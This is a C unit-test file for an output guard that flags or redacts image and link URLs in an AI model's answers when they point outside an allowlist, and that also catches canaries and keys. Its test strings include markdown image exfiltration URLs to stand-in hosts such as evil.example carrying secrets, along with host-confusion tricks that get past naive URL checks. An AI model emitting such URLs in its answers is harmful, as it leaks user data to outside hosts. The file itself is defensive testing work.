/* output_urls.c: images and links in answers: the allowlist with its subdomain rule, the
 * browser-style host tricks, <img>/<a> tags, reference definitions, urls=images, and redaction
 * of an offending URL across chunk boundaries. */
#include "output_test.h"

static struct sl_guard_output_spec spec;

static void setup_spec(void)
{
	sl_guard_output_spec_defaults(&spec);
	spec.ndomains = 2;
	memcpy(spec.allow_domains[0], "example.com", sizeof("example.com"));
	memcpy(spec.allow_domains[1], "cdn.trusted.org", sizeof("cdn.trusted.org"));
}

TestSuite(urls, .init = setup_spec);

/* Runs text whole and byte by byte; the two must agree; returns the number of findings. */
static size_t findings(const char *text, enum sl_gout_kind *kind, char *detail, size_t cap)
{
	struct orun one, bytes;
	orun_one(&spec, NULL, text, &one);
	orun_bytes(&spec, NULL, text, &bytes);
	orun_expect_same(&one, &bytes, text);
	size_t n = one.nf;
	if (n && kind)
		*kind = one.f[0].kind;
	if (n && detail)
		snprintf(detail, cap, "%s", one.f[0].detail);
	orun_release(&one);
	orun_release(&bytes);
	return n;
}

Test(urls, allowed_hosts_and_subdomains_pass)
{
	static const char *const ok[] = {
	    "![chart](https://example.com/chart.png)",
	    "![chart](https://img.example.com/chart.png?x=1)",
	    "![chart](https://a.b.example.com./c.png)",
	    "![chart](HTTPS://EXAMPLE.COM/c.png)",
	    "[docs](https://example.com:8443/docs)",
	    "![x](https://static.cdn.trusted.org/x.png)",
	    "![x](<https://example.com/a b.png>)",
	    "![local](/static/x.png) and [rel](docs/a.md) and [anchor](#x)",
	    "[mail](mailto:someone@evil.example) ![d](data:image/png;base64,AAAA)",
	    "<img src=\"https://example.com/a.png\" alt=\"x\">",
	    "<a href='https://docs.example.com/'>docs</a>",
	};
	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++)
		cr_expect_eq(findings(ok[i], NULL, NULL, 0), 0, "%s", ok[i]);
}

Test(urls, other_hosts_are_findings)
{
	static const struct {
		const char *text, *detail;
		enum sl_gout_kind kind;
	} bad[] = {
	    {"![x](https://evil.example/?q=SECRET)", "image to evil.example", SL_GOUT_IMAGE},
	    {"[click](http://evil.example/login)", "link to evil.example", SL_GOUT_LINK},
	    {"![x](https://evilexample.com/a.png)", "image to evilexample.com", SL_GOUT_IMAGE},
	    {"![x](https://example.com.evil.net/a.png)", "image to example.com.evil.net", SL_GOUT_IMAGE},
	    {"![x](https://trusted.org/a.png)", "image to trusted.org", SL_GOUT_IMAGE},
	    {"![x](https://example.com@evil.net/a.png)", "image to evil.net", SL_GOUT_IMAGE},
	    {"![x](https:evil.net/a.png)", "image to evil.net", SL_GOUT_IMAGE},
	    {"![x](https:/\\evil.net/a.png)", "image to evil.net", SL_GOUT_IMAGE},
	    {"![x](//evil.net/a.png)", "image to evil.net", SL_GOUT_IMAGE},
	    {"![x](https://%65vil.net/a.png)", "image to an invalid host", SL_GOUT_IMAGE},
	    {"![x](https://[::1]/a.png)", "image to an invalid host", SL_GOUT_IMAGE},
	    {"![x](ftp://evil.net/a)", "image to evil.net", SL_GOUT_IMAGE},
	    {"<img src=\"https://evil.net/p.gif?d=abc\">", "image to evil.net", SL_GOUT_IMAGE},
	    {"<IMG  SRC = https://evil.net/p.gif>", "image to evil.net", SL_GOUT_IMAGE},
	    {"<img alt=\"a\" src='//evil.net/p.gif'/>", "image to evil.net", SL_GOUT_IMAGE},
	    {"<a href=\"https://evil.net/\">x</a>", "link to evil.net", SL_GOUT_LINK},
	    {"![ref][1]\n[1]: https://evil.net/p.png?leak=1", "link to evil.net", SL_GOUT_LINK},
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		enum sl_gout_kind kind;
		char detail[SL_GOUT_DETAIL_MAX];
		cr_expect_eq(findings(bad[i].text, &kind, detail, sizeof(detail)), 1, "%s", bad[i].text);
		cr_expect_eq(kind, bad[i].kind, "%s", bad[i].text);
		cr_expect_str_eq(detail, bad[i].detail, "%s", bad[i].text);
	}
}

Test(urls, empty_allowlist_allows_no_outside_host)
{
	spec.ndomains = 0;
	cr_expect_eq(findings("![x](https://example.com/a.png) [y](https://example.com/)", NULL, NULL, 0), 2);
	cr_expect_eq(findings("![x](/a.png) [y](./b)", NULL, NULL, 0), 0);
}

Test(urls, images_mode_leaves_links_alone)
{
	spec.urls = SL_GOUT_URLS_IMAGES;
	enum sl_gout_kind kind;
	cr_expect_eq(findings("[click](http://evil.example/) <a href=\"http://evil.example/\">x</a>", NULL, NULL, 0), 0);
	cr_expect_eq(findings("![x](http://evil.example/p.png)", &kind, NULL, 0), 1);
	cr_expect_eq(kind, SL_GOUT_IMAGE);
	spec.urls = SL_GOUT_URLS_OFF;
	cr_expect_eq(findings("![x](http://evil.example/p.png)", NULL, NULL, 0), 0);
}

Test(urls, offending_url_redacted_across_chunks)
{
	spec.action = SL_GOUT_REDACT;
	struct sl_buf t;
	sl_buf_init(&t, 0);
	sl_buf_puts(&t, "Look: ![loading](https://evil.example/collect?d=");
	for (int i = 0; i < 700; i++)
		sl_buf_puts(&t, "A");
	sl_buf_puts(&t, ") and ![ok](https://example.com/fine.png).");
	struct orun one, bytes;
	orun_one(&spec, NULL, t.data, &one);
	orun_bytes(&spec, NULL, t.data, &bytes);
	cr_expect_str_eq(one.out.data, "Look: ![loading]([REDACTED]) and ![ok](https://example.com/fine.png).");
	orun_expect_same(&one, &bytes, "bytes");
	cr_expect_leq(bytes.maxheld, SL_GOUT_HOLD);
	for (uint64_t seed = 1; seed < 20; seed++) {
		struct orun r;
		orun_random(&spec, NULL, t.data, t.len, seed, 40, &r);
		orun_expect_same(&one, &r, "random");
		orun_release(&r);
	}
	orun_release(&one);
	orun_release(&bytes);
	sl_buf_release(&t);
}

Test(urls, canary_and_key_inside_a_url_are_still_found)
{
	spec.ncanaries = 1;
	memcpy(spec.canaries[0], "CANARY-42x", sizeof("CANARY-42x"));
	struct orun r;
	orun_one(&spec, NULL, "![a](https://example.com/p?c=CANARY-42x) [b](https://evil.net/?k=AKIAIOSFODNN7EXAMPLE)", &r);
	cr_assert_eq(r.nf, 3);
	cr_expect_eq(r.f[0].kind, SL_GOUT_CANARY);
	cr_expect_eq(r.f[1].kind, SL_GOUT_LINK);
	cr_expect_eq(r.f[2].kind, SL_GOUT_SECRET);
	orun_release(&r);
	/* Found by the fuzzer: a canary between a tag's start and its href was skipped. */
	spec.action = SL_GOUT_REDACT;
	orun_bytes(&spec, NULL, "<a title=CANARY-42x href=rel>x</a> <a data=CANARY-42x href=https://evil.net/?q=1>", &r);
	cr_expect_str_eq(r.out.data, "<a title=[REDACTED] href=rel>x</a> <a data=[REDACTED] href=[REDACTED]>");
	cr_expect_eq(r.nf, 3);
	orun_release(&r);
}

Test(urls, long_image_tag_is_a_finding)
{
	struct sl_buf t;
	sl_buf_init(&t, 0);
	sl_buf_puts(&t, "<img alt=\"");
	for (int i = 0; i < 400; i++)
		sl_buf_puts(&t, "x");
	sl_buf_puts(&t, "\" src=\"https://evil.net/p.gif\">");
	enum sl_gout_kind kind;
	char detail[SL_GOUT_DETAIL_MAX];
	cr_expect_eq(findings(t.data, &kind, detail, sizeof(detail)), 1);
	cr_expect_eq(kind, SL_GOUT_IMAGE);
	cr_expect_str_eq(detail, "image tag too long to check");
	sl_buf_release(&t);
}

Test(urls, host_allowed_function)
{
	cr_expect(sl_guard_output_host_allowed(&spec, "example.com", 11));
	cr_expect(sl_guard_output_host_allowed(&spec, "A.Example.Com.", 14));
	cr_expect(!sl_guard_output_host_allowed(&spec, "xexample.com", 12));
	cr_expect(!sl_guard_output_host_allowed(&spec, "com", 3));
	cr_expect(!sl_guard_output_host_allowed(&spec, "", 0));
	cr_expect(!sl_guard_output_host_allowed(&spec, "ex ample.com", 12));
}
